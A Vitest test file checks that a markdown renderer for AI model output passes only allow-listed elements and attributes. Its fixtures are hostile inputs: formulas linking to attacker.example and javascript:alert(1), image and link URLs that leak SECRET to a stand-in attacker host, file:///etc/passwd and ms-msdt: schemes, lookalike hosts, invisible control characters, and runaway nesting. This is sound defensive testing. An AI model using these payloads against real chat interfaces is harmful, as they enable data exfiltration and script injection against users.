// What a model says, drawn: whatever it tries, only listed elements with listed attributes come out,
// and nothing that loads, runs, navigates or takes a name.

import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { blocksOf } from '../../renderer/widgets/markdown/blocks-of.ts';
import { MarkdownTree } from '../../renderer/widgets/markdown/markdown-tree.tsx';
import { hostileTexts } from '../kit/hostile-texts.ts';

const html = new Set(
  'p pre code div span blockquote ol ul li table thead tbody tr th td strong em del small br hr button'.split(
    ' ',
  ),
);
const mathMl =
  /^(math|semantics|annotation|m(row|i|n|o|s|text|space|sub|sup|subsup|frac|sqrt|root|under|over|underover|table|tr|td|style|padded|phantom|error|enclose))$/;
const attributes =
  /^(class|dir|tabindex|type|title|scope|start|style|aria-hidden|width|height|viewBox|preserveAspectRatio|d|x1|x2|y1|y2|stroke-width|encoding|display|xmlns|mathvariant|stretchy|fence|separator|lspace|rspace|minsize|maxsize|linethickness|accent|accentunder|column\w+|row\w+|scriptlevel|displaystyle|mathcolor|mathbackground|movablelimits|symmetric|voffset|depth|notation)$/;

const drawn = (text: string): string => renderToStaticMarkup(<MarkdownTree blocks={blocksOf(text)} />);

/** Every element of a markup with its attributes. */
function elementsOf(markup: string): readonly { readonly tag: string; readonly names: readonly string[] }[] {
  return [...markup.matchAll(/<([A-Za-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, tag = '', inside = '']) => ({
      tag,
      names: [...inside.matchAll(/([\w:-]+)(?:="[^"]*")?/g)].map(([, name = '']) => name),
    }),
  );
}

function strangersIn(markup: string): readonly string[] {
  return elementsOf(markup).flatMap(({ tag, names }) => {
    const isKnown = html.has(tag) || mathMl.test(tag) || tag === 'svg' || tag === 'path' || tag === 'line';
    return [
      ...(isKnown ? [] : [tag]),
      ...names.filter(name => !attributes.test(name)).map(name => `${tag} ${name}`),
    ];
  });
}

const more: readonly (readonly [name: string, text: string])[] = [
  ['a formula with an address', '$$\\href{https://attacker.example}{x}$$ $\\url{javascript:alert(1)}$'],
  [
    'a formula with an id',
    '$\\htmlId{electronAPI}{x}$ $\\htmlData{a=b}{x}$ $\\htmlStyle{position:fixed}{x}$',
  ],
  ['a formula with a class', '$\\htmlClass{dialog}{x}$'],
  ['a formula with a picture', '$\\includegraphics[height=9em]{https://attacker.example/x.png}$'],
  ['a formula that never ends', '$\\def\\a{\\a\\a}\\a$'],
  ['a formula with quotes', "$\\text{\" onload=alert(1) x='<img src=x>'}$"],
  ['a formula in colours', '$\\color{url(https://attacker.example)}{x}$ $\\colorbox{red}{y}$'],
  ['an address in a reference', '[x][1] ![y][1]\n\n[1]: https://attacker.example/?q=SECRET'],
  ['an autolink', 'https://attacker.example/?q=SECRET www.attacker.example attacker@example.com'],
  ['a footnote', 'a[^electronAPI]\n\n[^electronAPI]: <img src=x>'],
];

describe('what a model says', () => {
  it.each([...hostileTexts, ...more])('is only text and known elements: %s', (_name, text) => {
    let markup: string;
    try {
      markup = drawn(text);
    } catch (error) {
      expect(error).toBeInstanceOf(RangeError);
      return;
    }
    expect(strangersIn(markup)).toEqual([]);
    for (const [, style = ''] of markup.matchAll(/ style="([^"]*)"/g)) {
      expect(style).not.toMatch(/url|position:(?!relative)/);
    }
  });

  it('has an inspector that sees what it must not hold', () => {
    expect(strangersIn('<p><img src="x" onerror="y"/><a href="z">b</a></p>')).toEqual([
      'img',
      'img src',
      'img onerror',
      'a',
      'a href',
    ]);
  });

  it.each([
    ['javascript:alert(1)', ''],
    ['JaVaScRiPt&colon;alert(1)', ''],
    ['data:text/html,x', ''],
    ['vbscript:x', ''],
    ['file:///etc/passwd', ''],
    ['smb://attacker/share', ''],
    ['ms-msdt:/id', ''],
    ['calculator:', ''],
    ['//attacker.example/x', ''],
  ])('opens no %s', (address, host) => {
    const [block] = blocksOf(`[text](${address})`);
    expect(block).toMatchObject({ children: [{ kind: 'link', href: null, host }] });
  });

  it.each([
    ['http://plain.example/x', 'plain.example', null],
    ['https://good.example@evil.example/', 'evil.example', null],
    ['https://аррӏе.com/', 'xn--80ak6aa92e.com', 'https://xn--80ak6aa92e.com/'],
    ['https://a.example:8443/x', 'a.example:8443', 'https://a.example:8443/x'],
  ])('names the host of %s as the network reads it', (address, host, href) => {
    const [block] = blocksOf(`[https://bank.example](<${address}>)`);
    expect(block).toMatchObject({ children: [{ kind: 'link', href, host }] });
    expect(drawn(`[https://bank.example](<${address}>)`)).toContain(`(${host})`);
  });

  it('tells of an image and its host, and holds none', () => {
    const markup = drawn('![a chart](https://attacker.example/?q=SECRET)');
    expect(markup).toContain('a chart');
    expect(markup).toContain('attacker.example');
    expect(markup).not.toContain('SECRET');
  });

  it.each([
    ['a turned direction', 'a\u202Eb', 'RLO'],
    ['an isolate', 'a\u2066b', 'LRI'],
    ['an escape', 'a\u001B[2Jb', '␛'],
    ['a letter without width', 'pass\u200Bword', 'ZWSP'],
    ['a mark of order', 'a\uFEFFb', 'BOM'],
    ['a joiner in a word', 'pass\u200Dword', 'ZWJ'],
    ['a hidden tag', 'a\u{E0041}b', 'E0041'],
  ])('shows %s, and lets it do nothing', (_name, text, sign) => {
    const markup = drawn(text);
    expect(markup).toContain(`>${sign}</span>`);
    for (const character of '\u202E\u2066\u001B\u200B\uFEFF') expect(markup).not.toContain(character);
  });

  it('leaves joiners that emoji and scripts need', () => {
    expect(drawn('👩\u200D🔬 می\u200Cخواهم')).toBe('<p dir="auto">👩\u200D🔬 می\u200Cخواهم</p>');
  });

  it.each([
    ['quotes', '> '.repeat(10_000) + 'x'],
    ['lists', '- '.repeat(10_000) + 'x'],
    ['emphasis', '*a **b '.repeat(60) + 'c' + '** *'.repeat(60)],
    ['numbers', '1. '.repeat(100) + 'x'],
  ])('refuses nesting without end at once: %s', (_name, text) => {
    const before = performance.now();
    try {
      drawn(text);
    } catch (error) {
      expect(error).toBeInstanceOf(RangeError);
    }
    expect(performance.now() - before).toBeLessThan(2_000);
  });

  it('takes a long row of dashes for the rule it is', () => {
    expect(blocksOf('- '.repeat(60))).toEqual([{ kind: 'rule' }]);
  });
});
